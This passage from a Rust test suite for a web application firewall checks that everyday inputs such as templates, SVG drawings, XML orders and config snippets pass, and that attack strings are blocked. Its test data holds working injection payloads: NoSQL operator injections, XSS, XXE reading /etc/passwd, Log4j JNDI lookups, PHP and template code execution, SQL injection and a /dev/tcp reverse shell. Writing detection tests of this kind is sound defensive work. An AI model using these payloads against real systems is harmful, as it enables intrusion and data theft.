        r#"{"keys":{"sku":1},"options":{"partialFilterExpression":{"deleted":{"$eq":false}},"name":"sku_live"}}"#,
        r#"{"selector":{"total":{"$gt":500},"$or":[{"currency":"EUR"},{"currency":"CHF"}]},"fields":["_id","total"]}"#,
        r#"{"match":{"body":{"amount":{"$lt":10000}}},"response":{"status":201}}"#,
        r#"{"query":{"$and":[{"age":{"$gte":18}},{"tags":{"$all":["vip","newsletter"]}}]}}"#,
        r#"{"confirmDelete":{"message":"Delete $TEXT$? This cannot be undone.","placeholders":{"text":{"content":"$1"}}}}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(!o.blocked && o.matches.is_empty(), "{body}: {o:?}");
    }
    for t in [
        "/api/articles?filters%5Btitle%5D%5B%24eq%5D=hello&filters%5Bviews%5D%5B%24gt%5D=10&sort=publishedAt%3Adesc",
        "/api/v1/entries/sgv.json?count=288&find%5Bdate%5D%5B%24gte%5D=1764460800000",
    ] {
        let o = outcome(&waf, t);
        assert!(!o.blocked && o.matches.is_empty(), "{t}: {o:?}");
    }
    // Operators where a value was expected, at the top, or that run code: as before.
    for body in [
        r#"{"username":{"$ne":null},"password":{"$ne":null}}"#,
        r#"{"email":"admin@example.com","password":{"$gt":""}}"#,
        r#"{"user":{"$exists":true}}"#,
        r#"{"$where":"sleep(5000)"}"#,
        r#"{"$nor":"foo"}"#,
        r#"{"filter":{"$where":"this.password.length > 0"}}"#,
        r#"{"filter":{"owner":{"$function":{"body":"function(){return true}","args":[],"lang":"js"}}}}"#,
        r#"{"query_id":{"$ne":1}}"#,
        r#"{"profile":{"filter":"recent","password":{"$regex":"^a"}}}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(blocked_category(&o, Category::Sqli), "{body}: {o:?}");
    }
    for t in [
        "/login?username=admin&password%5B%24ne%5D=x",
        "/get/mongo/show.php?u_id[$regex]=2",
        "/api/users?filter_by[$ne]=1",
        "/api/articles?filters%5B%24where%5D=sleep(100)",
    ] {
        assert!(blocked_category(&outcome(&waf, t), Category::Sqli), "{t}");
    }
    let form = "application/x-www-form-urlencoded";
    assert!(blocked_category(&post("/login", form, "user=admin&pass%5B%24ne%5D=1", &waf), Category::Sqli));
    assert!(!query_document_operator(b"$.filter"));
    assert!(!query_document_operator(b"$.filter.$where"));
    assert!(query_document_operator(b"$.pipeline[0].$match.status.$in"));
}

#[test]
fn go_template_fields_and_a_ticket_number_after_e_mail_pass_and_their_attacks_still_score() {
    // Holdout41 (written blind): a log pipeline's S3 key prefix `logs/{{ .env }}/…` and a note
    // `Address corrected per customer e-mail (ticket #58812)`.
    let waf = waf_with("{}");
    for v in [
        "logs/{{ .env }}/%Y/%m/%d/{{ .service }}/",
        "token: {{ .Env.GITHUB_TOKEN }}",
        "Address corrected per customer e-mail (ticket #58812)",
        "see the mail (thread #4) from Friday",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        "; cat .env",
        "$(cat .env)",
        "x=.env",
        "../../.env",
        "{{ ../../.env }}",
        "mail ('root@example.com', 'x', file_get_contents('/etc/passwd'))",
        "system (ls)",
        "system ($_GET[c])",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn a_negated_word_alone_is_no_history_event_and_events_with_arguments_still_score() {
    // Holdout42 (written blind): a Liquibase change set's `context="!test"`.
    let waf = waf_with("{}");
    for v in ["!test", "!important", "!draft", "  !prod"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked && o.matches.is_empty(), "{v}: {o:?}");
        }
    }
    for v in ["!1", "!!", "!-2", "!?passwd?", "; !cat /etc/passwd", "x | !ls", "!ls -la", "!id ", "!ca:s/l/t/", "a;!id"]
    {
        for o in as_field_and_query(&waf, v) {
            assert!(o.matches.iter().any(|m| m.rule_id == 3209), "{v}: {o:?}");
        }
    }
}

#[test]
fn a_doctype_with_only_an_external_identifier_is_no_php_call_and_entity_declarations_still_score() {
    // Holdout44 (written blind): a cXML order whose DOCTYPE names its DTD by a SYSTEM identifier.
    let waf = waf_with("{}");
    let xml = "application/xml";
    let order = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE cXML SYSTEM \"http://xml.cxml.org/schemas/cXML/1.2.063/cXML.dtd\">\n<cXML payloadID=\"62250.1699@procure.example\" timestamp=\"2025-05-12T09:30:11-04:00\" xml:lang=\"en-CA\"><Request><OrderRequest><OrderRequestHeader orderID=\"PO-118230\" type=\"new\"/></OrderRequest></Request></cXML>";
    let o = post("/b2b/cxml/inbound", xml, order, &waf);
    assert!(!o.blocked && !o.matches.iter().any(|m| m.rule_id == 3301), "{o:?}");
    let xhtml = "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Hi</p></body></html>";
    let o = post("/v1/pages", xml, xhtml, &waf);
    assert!(!o.matches.iter().any(|m| m.rule_id == 3301), "{o:?}");
    for doc in [
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
        "<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"http://203.0.113.9/x.dtd\" [<!ENTITY % p SYSTEM \"http://203.0.113.9/e\"> %p;]><r/>",
    ] {
        assert!(post("/b2b/cxml/inbound", xml, doc, &waf).blocked, "{doc}");
    }
    assert!(external_id_only(b"<!doctype cxml system \"http://x/cxml.dtd\">"));
    assert!(external_id_only(b"<!doctype cxml system \"http://x/cxml.dtd\""));
    assert!(external_id_only(b"<!doctype html public \"-//w3c//dtd html 4.01//en\">"));
    assert!(!external_id_only(b"<!doctype r system \"a\" [<!entity x system \"file:///etc/passwd\">]>"));
    assert!(!external_id_only(b"<!doctype r system \"a\" x>"));
    assert!(!external_id_only(b"<!doctype system \"a\">"));
    assert!(!external_id_only(b"<!doctype r system \"a"));
}

#[test]
fn a_less_than_sign_followed_by_a_space_opens_no_tag_and_tags_still_score() {
    // Holdout43 (written blind): a test-prep question's dispute, `1 < x < 5 … x > 4`. A browser
    // opens a tag only at `<` followed by a letter (or `</` and a letter): `< x` is text.
    let waf = waf_with("{}");
    for v in [
        "Statement (1): |x − 3| < 2 ⇒ 1 < x < 5. Statement (2) says x is an integer; with (1) alone x could be 4.5 → x > 4? not always",
        "keep 0 < input voltage < 5 V and output > 2 V",
        "if a < b and b > c then swap",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        "<x onclick=alert(1)>click",
        "<svg onload=alert(1)>",
        "</x><x onmouseover=alert(1)>",
        "<iframe src=//evil.example>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked && o.matches.iter().any(|m| m.category == Category::Xss), "{v}: {o:?}");
        }
    }
}

#[test]
fn a_drawing_editors_namespaces_leave_an_svg_inert_and_acting_ones_do_not() {
    // Holdout43 (written blind): a makerspace's laser-cut project, an Inkscape SVG uploaded as a
    // file. Its root declares Inkscape's namespace and its layers carry `inkscape:label`.
    let waf = waf_with("{}");
    let head = r#"<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" xmlns:svg="http://www.w3.org/2000/svg" xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:dc="http://purl.org/dc/elements/1.1/" width="100mm" height="100mm" viewBox="0 0 100 100" version="1.1" inkscape:version="1.3 (0e150ed6c4, 2023-07-21)" sodipodi:docname="leaf-coaster_v3.svg">"#;
    let drawing = r##"
  <sodipodi:namedview id="namedview1" pagecolor="#ffffff" bordercolor="#000000" inkscape:pageopacity="0.0" inkscape:document-units="mm" inkscape:current-layer="layer1"/>
  <metadata><rdf:RDF><dc:title>Leaf coaster</dc:title></rdf:RDF></metadata>
  <g inkscape:label="cut" inkscape:groupmode="layer" id="layer1">
    <circle cx="50" cy="50" r="45" fill="none" stroke="#ff0000" stroke-width="0.01"/>
    <svg:rect x="5" y="5" width="90" height="90" fill="none" stroke="#0000ff"/>
  </g>
  <g inkscape:label="engrave" inkscape:groupmode="layer" id="layer2">
    <path d="M 30,60 C 30,40 45,30 50,25 C 55,30 70,40 70,60 Z" fill="#000000"/>
    <text x="50" y="88" font-size="6" text-anchor="middle">Casa Natarajan-Ruiz · 2024</text>
  </g>
</svg>"##;
    let svg = format!("{head}{drawing}");
    assert!(context::inert_svg(svg.to_ascii_lowercase().as_bytes()), "{svg}");
    let body = format!(
        "--B\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nLeaf coasters (set of 12)\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"leaf.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{svg}\r\n--B--\r\n"
    );
    let o = post("/api/projects", "multipart/form-data; boundary=B", &body, &waf);
    assert!(!o.blocked, "{o:?}");

    // What acts still acts: a prefix bound to a namespace that a browser or processor acts on,
    // an element of the SVG prefix that runs, a prefix declared below the root or not at all, a
    // namespace that is no identifier, and the old attacks in an editor's document.
    let ns = r#"xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape""#;
    for s in [
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>alert(1)</h:script></svg>"#.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:q="http://www.w3.org/1999/xlink"><a q:href="javascript:alert(1)"><rect width="9"/></a></svg>"#.to_string(),
        r##"<svg xmlns="http://www.w3.org/2000/svg" xmlns:ev="http://www.w3.org/2001/xml-events"><ev:listener event="load" handler="#h"/><rect width="9"/></svg>"##.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="file:///etc/passwd"/></svg>"#.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:s="http://www.w3.org/2000/svg"><s:script>alert(1)</s:script></svg>"#.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="javascript:alert(1)"><x:a x:b="c"/></svg>"#.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg"><g xmlns:k="http://k.example/"><k:a onload="alert(1)"/></g></svg>"#.to_string(),
        r#"<svg xmlns="http://www.w3.org/2000/svg"><k:a onload="alert(1)"/></svg>"#.to_string(),
        format!(r#"<svg {ns} onload="alert(1)"><rect width="1"/></svg>"#),
        format!(r#"<svg {ns}><inkscape:x onload="alert(1)"/></svg>"#),
        format!(r#"<svg {ns}><g inkscape:label="<img src=x onerror=alert(1)>"/></svg>"#),
        format!(r#"<svg {ns}><foreignObject><iframe src="//203.0.113.9/"></iframe></foreignObject></svg>"#),
        format!(r#"<svg {ns}><a href="javascript:alert(1)"><rect width="9"/></a></svg>"#),
    ] {
        assert!(!context::inert_svg(s.to_ascii_lowercase().as_bytes()), "{s}");
        let o = json_post(&waf, &serde_json::json!({ "svg": s }).to_string());
        assert!(blocked_category(&o, Category::Xss), "{s}: {o:?}");
    }
}

#[test]
fn holdout45_and_46_shapes_pass_and_their_attacks_still_score() {
    // Holdouts 45 and 46 (written blind). Each shape passes; the attacks beside it still score.
    let waf = waf_with("{}");
    let blocked_as = |v: &str, c: Category| {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, c), "{v}: {o:?}");
        }
    };
    let passes = |v: &str| {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    };

    // A cultivar in quotes before a colour in parentheses (rule 3305): no PHP function is named.
    passes("radish 'Sango' (purple)");
    passes("tomato \"Cherokee\" (heirloom), basil 'Genovese' (sweet)");
    for v in ["'system' (id)", "'passthru' (whoami)", "'system'('id')", "'assert'(phpinfo())", "\"exec\" (ls)"] {
        blocked_as(v, Category::Php);
    }

    // An XPath step whose predicate holds a positional step (rule 3205): no bracket glob.
    passes("//table[@id='orders']//tr[td[3][normalize-space(.)='Shipped']]/td[1]/a");
    passes("//ul/li[a[2]]/span");
    for v in ["cat /e[t]c/p[a]sswd", "cat /e[t]c/pass[a-z]d", "/???/??t /???/p??s??", "cat /e??/p[a]ss[w]d"] {
        blocked_as(v, Category::Rce);
    }

    // A test runner's log naming the element it found (rule 4104): an input with an autofill hint.
    passes(r#"  - locator resolved to <input type="text" autocomplete="on" id="name" class="Input_root__x7f2a"/>"#);
    for v in [
        r#"<input autocomplete="on" autofocus onfocus="alert(1)">"#,
        r#"<input type="image" autocomplete="off" src=x onerror=alert(1)>"#,
        r#"<input autocomplete="on" formaction="javascript:alert(1)" type="submit">"#,
    ] {
        blocked_as(v, Category::Xss);
    }

    // A logo whose font family names a face in the other quote (an SVG drawing stays inert).
    let logo = r##"<svg xmlns="http://www.w3.org/2000/svg" width="280" height="64" viewBox="0 0 280 64" role="img" aria-labelledby="t"><title id="t">Bloom &amp; Co.</title><g fill="#2f5d50"><circle cx="32" cy="32" r="10"/></g><text x="64" y="42" font-family="Georgia, 'Times New Roman', serif" font-size="28">Bloom &amp; Co.</text></svg>"##;
    let body = format!(
        "--B\r\nContent-Disposition: form-data; name=\"alt\"\r\n\r\nBloom & Co. logo\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"bloom-logo.svg\"\r\nContent-Type: image/svg+xml\r\n\r\n{logo}\r\n--B--\r\n"
    );
    let o = post("/v1/assets", "multipart/form-data; boundary=B", &body, &waf);
    assert!(!o.blocked, "{o:?}");
    for s in [
        r#"<svg xmlns="http://www.w3.org/2000/svg"><text font-family="a'" onload="alert(1)">x</text></svg>"#,
        r#"<svg xmlns="http://www.w3.org/2000/svg"><rect fill="'x'" style="background:url(//203.0.113.9/)"/></svg>"#,
    ] {
        assert!(!context::inert_svg(s.to_ascii_lowercase().as_bytes()), "{s}");
        blocked_as(s, Category::Xss);
    }

    // Conditions of other languages are no batch IF (rule 3206): a Liquid preheader, AMPscript, a
    // Jinja block with `and`, Python, Go.
    for v in [
        "{% if order.fulfillment_status == 'partial' %}Part of your order is on the way{% else %}It's on the way!{% endif %}",
        "%%[ IF @tier == \"Gold\" THEN ]%%\n<p>As a Gold member you get free delivery.</p>\n%%[ ENDIF ]%%",
        "{%- if env == 'prod' and replicas > 1 -%}\nproxy_read_timeout 30s;\n{%- endif -%}",
        "n = hook.get_first(sql)[0]\nif n == 0:\n    raise ValueError(f\"No orders for {ds}\")\nreturn n",
        "if n == 0 {\n    return errors.New(\"empty batch\")\n}",
    ] {
        passes(v);
    }
    for v in [
        "IF red==red echo test",
        "IF [%1]==[/?] ...",
        "if \"!VAR!\" == \"after\" @echo ok",
        "if not {%1} == {}",
        "x & if a==a calc.exe",
        "IF X%1==X/? GOTO Helpscreen",
    ] {
        blocked_as(v, Category::Rce);
    }

    // A business's name in a file name (rule 1011): `&` opens no entity or parameter there.
    let upload = |filename: &str| {
        let body = format!(
            "--B\r\nContent-Disposition: form-data; name=\"doc_type\"\r\n\r\nrepair_estimate\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{filename}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\r\n--B--\r\n"
        );
        post("/api/v2/claims/CLM-40918/documents", "multipart/form-data; boundary=B", &body, &waf)
    };
    for f in ["Keys&Strings_estimate_8-24.pdf", "R&D plan.pdf", "AT&T bill.pdf", "Property & Owners.pdf"] {
        let o = upload(f);
        assert!(!o.blocked, "{f}: {o:?}");
    }
    for f in ["&amp;fi;zzz", "a&x=1.pdf", "a&#39;b.pdf", "te;st.txt"] {
        let o = upload(f);
        assert!(blocked_category(&o, Category::Protocol), "{f}: {o:?}");
    }

    // An Ansible playbook's Jinja (rule 3600): a filter applied with its arguments, and a comment
    // on a line of its own in a template's source.
    passes("---\n- name: Harden and configure web tier\n  hosts: web\n  become: true\n  vars:\n    nginx_worker_connections: 4096\n    app_upstreams: \"{{ groups['app'] | map('extract', hostvars, 'ansible_host') | list }}\"\n  tasks:\n    - name: Render upstreams\n      ansible.builtin.template:\n        src: upstreams.conf.j2\n        dest: /etc/nginx/conf.d/upstreams.conf\n");
    passes("upstream app {\n{% for host in app_upstreams %}\n  server {{ host }}:8080;\n{% endfor %}\n}\n{# per-env tuning #}\n{% if env | default('prod') == 'prod' %}\nproxy_read_timeout 30s;\n{% endif %}");
    for v in [
        "{{['id']|map('system')|join}}",
        "{{['id']|filter('system')}}",
        "{{[0]|reduce('system','id')}}",
        "{{['id',1]|sort('passthru')}}",
        "{{ ['cat /etc/passwd'] | map(\"system\") | join(',') }}",
        "a{#x#}b",
        "{#comment#}",
        "name: x {# probe #}",
    ] {
        blocked_as(v, Category::GenericAttack);
    }
}

#[test]
fn holdout47_and_48_shapes_pass_and_their_attacks_still_score() {
    // Holdouts 47 and 48 (written blind).
    let waf = waf_with("{}");

    // A schema designer's import as `application/sql` (RFC 6922): a registered type, read as text.
    let ddl = "CREATE TABLE riders (\n  id bigserial PRIMARY KEY,\n  email text NOT NULL UNIQUE,\n  created_at timestamptz DEFAULT now()\n);\n";
    let o = post("/api/import?dialect=postgres", "application/sql", ddl, &waf);
    assert!(!o.blocked, "{o:?}");
    let o = post("/api/import", "application/sql", "-- owner: <script>alert(1)</script>\nSELECT 1;\n", &waf);
    assert!(blocked_category(&o, Category::Xss), "{o:?}");

    // A SIP address's domain in a PBX dialplan (rule 3305): a placeholder after `@` is text.
    for v in ["user/1001@${domain_name}", "sofia/gateway/carrier/${destination_number}@${sip_from_host}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in ["${system('id')}", "@${'_GET'}[0]($_GET[1])", "x${phpinfo()}", "${@system($_GET[c])}"] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::Php), "{v}: {o:?}");
        }
    }

    // An IPv6 address in brackets is no bracket glob (rule 3205): `//[::1]:8080`, `//[a::]`.
    for v in ["http://[::1]:8080/callback", "https://[2001:db8::1]:8443/health", "http://[a::]"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.matches.iter().any(|m| m.rule_id == 3205), "{v}: {o:?}");
        }
    }
    for v in ["cat /e[t]c/p[a]sswd", "/bin/c[a]t /e[t]c/shadow", "ls /[e]tc/"] {
        for o in as_field_and_query(&waf, v) {
            assert!(o.blocked && o.matches.iter().any(|m| m.rule_id == 3205), "{v}: {o:?}");
        }
    }
}

/// The whole body inspection natively, for callgrind: `INSPECT_BODY=file INSPECT_N=n
/// [INSPECT_PL=2] cargo test --release --lib inspect_cost -- --ignored` (the difference between
/// two `n` is the cost of `n` inspections; the first builds the automata's states).
#[test]
#[ignore]
fn inspect_cost() {
    let body = std::fs::read(std::env::var("INSPECT_BODY").unwrap_or_default()).unwrap_or_default();
    let n: usize = std::env::var("INSPECT_N").ok().and_then(|n| n.parse().ok()).unwrap_or(1);
    let pl = std::env::var("INSPECT_PL").unwrap_or_else(|_| "1".into());
    let w = waf_with(&format!("{{\"paranoia_level\":{pl}}}"));
    let mut r = get("/api/orders", &[("content-type", "application/json")]);
    r.method = "POST".into();
    let mut values = 0;
    for _ in 0..n {
        let mut s = w.inspect_head(&r);
        w.inspect_body(&mut s, b"application/json", std::hint::black_box(&body[..]));
        values += s.values;
    }
    println!("{values}");
}

#[test]
fn holdout49_and_50_shapes_pass_and_their_attacks_still_score() {
    // Holdout49 (written blind): a LiveView question quoting a template, `<%= todo.title %>`. An ERB
    // output tag of one data path reads the template's data (rule 3600); anything more counts.
    let waf = waf_with("{}");
    for v in [
        "and now compilation fails:\n\n```elixir\ndefp row(todo) do\n  ~H\"\"\"\n  <li id={\"todo-#{todo.id}\"}><%= todo.title %></li>\n  \"\"\"\nend\n```",
        "The counter shows <%= @count %> and the footer <%= @user.name -%>.",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        "<%= 7*7 %>",
        "<%= system('id') %>",
        "<%= `id` %>",
        "<%= File.read('/etc/passwd') %>",
        "<%= eval params[:x] %>",
        "<%== system('id') %>",
        "<%= system 'id' %>",
        "<%= IO.popen('id').readlines() %>",
    ] {
        for o in as_field_and_query(&waf, v) {
            assert!(blocked_category(&o, Category::GenericAttack), "{v}: {o:?}");
        }
    }
}

#[test]
fn php_function_names_that_are_words_count_at_level_2_only_before_a_call() {
    let pl2 = waf_with(r#"{"paranoia_level": 2}"#);
    let has = |o: &Outcome| o.matches.iter().any(|m| m.rule_id == 3308);

    // Everyday words and field names from real APIs: no call after them.
    for target in [
        "/api/articles?include=author,comments&sort=-published",
        "/api/orders/ord-2291/items",
        "/api/files?file=report.pdf",
        "/api/settings?header=compact&mail=weekly",
        "/api/uploads?checksum=md5",
    ] {
        let o = outcome(&pl2, target);
        assert!(!has(&o), "{target}: {o:?}");
    }
    let chat = r#"{"model":"m-2","messages":[{"role":"system","content":"Be brief."},{"role":"user","content":"Hi"}]}"#;
    let o = json_post(&pl2, chat);
    assert!(!has(&o), "{o:?}");

    // A call after such a name still counts, as does a name nothing but PHP uses, alone.
    for q in [
        "system('id')",
        "[system][0](ls);",
        "md5\\(",
        "file(\"/etc/passwd\")",
        "include ($_GET['p'])",
        "shell_exec=(bla)",
        "print_r",
        "base64_decode",
        "symlink//c",
    ] {
        let o = outcome(&pl2, &format!("/q?x={}", query_escaped(q)));
        assert!(has(&o), "{q}: {o:?}");
    }
}

#[test]
fn holdout51_and_52_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);
    let field = |k: &str, v: &str| serde_json::json!({ k: v }).to_string();

    // A quoted option string (`"-Wall"`, `"--host"`) or a string that starts with `#` and more
    // (`'#[fg=colour244]'`, `"#{pane_current_path}"`) opens a string, not a comment.
    let build = "cc_library(\n    name = \"codec\",\n    srcs = glob([\"src/*.cc\"]),\n    copts = select({\n        \"//conditions:default\": [\"-Wall\", \"-Wextra\", \"-std=c++20\"],\n    }),\n    deps = [\"@zlib\"],\n)\n";
    assert!(!context::sql_breakout(build.to_ascii_lowercase().as_bytes()), "{build}");
    for v in [
        r#"args = ["--host", "0.0.0.0", "--port", "8080"]"#,
        "set -g status-right '#[fg=colour244]#(whoami)@#H %Y-%m-%d'",
        r##"bind | split-window -h -c "#{pane_current_path}""##,
    ] {
        assert!(!context::sql_breakout(v.to_ascii_lowercase().as_bytes()), "{v}");
    }
    for v in ["'-- x", "'-1 or 1=1", "'#", "'# x", "x' --", "admin'#", "[\"a\"]'-sleep(5)-'"] {
        assert!(context::sql_breakout(v.as_bytes()), "{v}");
    }
    for q in ["1' or 1=1 --", "x'-- ", "admin'#", "' or '1'='1' #"] {
        let o = json_post(&waf, &field("q", q));
        assert!(o.blocked, "{q}: {o:?}");
    }

    // `system (` before a number and words is a parenthetical; before a number alone, a quote
    // or a call it is a call.
    let o = json_post(&waf, &field("notes", "We're studying the scale of the solar system (1 AU ≈ 150,000,000 km)."));
    assert!(!o.blocked && rule(&o, 4404).is_none(), "{o:?}");
    for q in ["system (-1)", "system (0)", "system ('id')", "system (chr(105).chr(100))"] {
        let o = json_post(&waf, &field("q", q));
        assert!(o.blocked && rule(&o, 4404) == Some(5), "{q}: {o:?}");
    }

    // A shell default (`${RAILS_ENV:-production}`) names no Log4j lookup; a lookup's prefix as a
    // word of its own still does.
    let o = json_post(&waf, &field("body", "deploy.rb reads ${RAILS_ENV:-production} and ${APP_ENV:-staging}"));
    assert!(rule(&o, 4400).is_none(), "{o:?}");
    for q in [
        "${env:AWS_SECRET_ACCESS_KEY}",
        "${jndi:ldap://x.example/a}",
        "${${lower:j}ndi:ldap://x.example/a}",
        "${${::-j}${::-n}di:rmi://x.example/a}",
        "${x:-${env:HOME}}",
        "${sys:user.name}",
    ] {
        let o = outcome(&waf, &format!("/q?x={}", query_escaped(q)));
        assert!(o.blocked && rule(&o, 4400) == Some(5), "{q}: {o:?}");
    }

    // Perl's `$ARGV[0]` is no PHP superglobal; `$_GET`, `$GLOBALS` and `php://input` are.
    let o = json_post(&waf, &field("q", "open my $fh, '<', $ARGV[0] or die"));
    assert!(rule(&o, 3302).is_none(), "{o:?}");
    for q in ["$_GET['c']", "$GLOBALS['x']", "php://input"] {
        let o = json_post(&waf, &field("q", q));
        assert!(o.blocked && rule(&o, 3302) == Some(5), "{q}: {o:?}");
    }

    // A Maven POM's property placeholder and group id, a Clojure namespace: configuration and
    // code of their own. Deserialisation gadgets of Spring and Clojure, a call inside `${…}` and
    // a PHP variable-variable still count.
    let pom =
        r#"<project><groupId>org.springframework.boot</groupId><version>${mapstruct.version}</version></project>"#;
    let o = post("/api/pom", "application/xml", pom, &waf);
    assert!(!o.blocked && rule(&o, 3305).is_none() && rule(&o, 4401).is_none(), "{o:?}");
    let o = json_post(
        &waf,
        &field("code", "(ns orders.explore (:require [clojure.string :as str]))\n(str/join \", \" (map :sku orders))"),
    );
    assert!(rule(&o, 4401).is_none(), "{o:?}");
    for q in [
        r#"{"@type":"org.springframework.context.support.ClassPathXmlApplicationContext","configLocation":"http://x.example/a.xml"}"#,
        "clojure.core$comp",
        "clojure.main$eval_opt",
    ] {
        let o = json_post(&waf, &field("q", q));
        assert!(o.blocked && rule(&o, 4401) == Some(5), "{q}: {o:?}");
    }
    for q in ["${a.b.system('id')}", "${x.system('id')}", "${system('id')}", "${'_GET'}"] {
        let o = outcome(&waf, &format!("/q?x={}", query_escaped(q)));
        assert!(o.blocked && rule(&o, 3305) == Some(5), "{q}: {o:?}");
    }

    // A function's name joined by a hyphen to the word before, then a quote, ends a quoted
    // command name (`"wl-copy"`); a name before a quote is a call without parentheses.
    let o = json_post(&waf, &field("conf", r#"bind -T copy-mode-vi y send -X copy-pipe-and-cancel "wl-copy""#));
    assert!(rule(&o, 3301).is_none(), "{o:?}");
    for q in ["@{[system 'whoami']}", "include\"/etc/passwd\";", "require$f;", "(\"system  \")(\"whoami\")"] {
        let o = json_post(&waf, &field("q", q));
        assert!(o.blocked && rule(&o, 3301) == Some(5), "{q}: {o:?}");
    }
}

#[test]
fn holdout55_to_58_shapes_pass_and_their_attacks_still_score() {
    let waf = waf_with("{}");
    let rule = |o: &Outcome, id: u32| o.matches.iter().find(|m| m.rule_id == id).map(|m| m.score);

    // A random token (a PKCE code verifier) can hold `0e` and a letter by chance; the notation's
    // trick needs a keyword or `(` glued after it (4218).
    let verifier = "kUqE~o~0eo9B8.GKbF52JR2jSlNJfTvu-4HjyfmN7PHh2N6oFaYsF5Z2gEPgkW~V";
    let form = format!("grant_type=authorization_code&code=3ia6QcKdNNiV0i5&code_verifier={verifier}");
    let o = post("/oauth2/token", "application/x-www-form-urlencoded", &form, &waf);
    assert!(!o.blocked && rule(&o, 4218).is_none(), "{o:?}");
    for o in as_field_and_query(&waf, verifier) {
        assert!(!o.blocked, "{o:?}");
    }
    for q in ["0eunion select 1", "1 or 0eor 1", "0e1ddiv 1", "0e(1)", "x-0eand 1", "0efrom dual"] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4218) == Some(5), "{q}: {o:?}");
        }
    }

    // An integer boundary in a register dump is a number among others; as the whole value, after
    // a comparison, in a list or after a keyword it is the overflow probe (4220).
    let dump = "[13:02:20.319] EXCVADDR: 0x00000008  LBEG    : 0x4000c2e0  LEND    : 0x4000c2f6  LCOUNT  : 0xffffffff\n[13:02:20.342] Rebooting...\n";
    let o = post("/api/serial/sessions/s1/logs", "text/plain; charset=utf-8", dump, &waf);
    assert!(rule(&o, 4220).is_none(), "{o:?}");
    for q in [
        "2147483647",
        "-9223372036854775807",
        "'4294967295'",
        "1 and 2147483647=2147483647",
        "id in (2147483647,-1)",
        "1 limit 18446744073709551615",
        "x=0x7fffffff",
    ] {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 4220) == Some(5), "{q}: {o:?}");
        }
    }

    // An output sink alone is a log setting (holdout44's mesh config `"accessLogFile":
    // "/dev/stdout"`); with anything around it, a redirection or a device in a command (3202).
    for v in ["/dev/stdout", "/dev/stderr", "/dev/null"] {
        for o in as_field_and_query(&waf, v) {
            assert!(!o.blocked && rule(&o, 3202).is_none(), "{v}: {o:?}");
        }
    }
    for q in
        ["; id > /dev/null", "/dev/null; id", "x|tee /dev/stderr", "sh -i >& /dev/tcp/10.0.0.1/4444 0>&1", "/dev/stdin"]
    {
        for o in as_field_and_query(&waf, q) {
            assert!(o.blocked && rule(&o, 3202) == Some(5), "{q}: {o:?}");
        }
    }

    // Holdout57's shapes: a repository's `.github/` directory in a contents API path (3002), and
    // a package manager's cache in a home directory (3001); a dot-directory and the home
    // directory's secret or history files still count.
    let o = outcome(&waf, "/repos/tidy-dev/tidy/contents/.github/workflows/release.yml");
    assert!(!o.blocked && rule(&o, 3002).is_none(), "{o:?}");
    for t in ["/app/.git/config", "/.git/HEAD", "/.gitignore", "/.env", "/.github", "/.githubx/a", "/x/.htaccess"] {
        let o = outcome(&waf, t);
        assert!(o.blocked && rule(&o, 3002) == Some(5), "{t}: {o:?}");
    }
    for v in [
        "Use BuildKit for cache mounts (RUN --mount=type=cache,target=/root/.npm)",
        "/home/runner/.gradle",
        "/root/.cache/pip",
    ] {
        for o in as_field_and_query(&waf, v) {
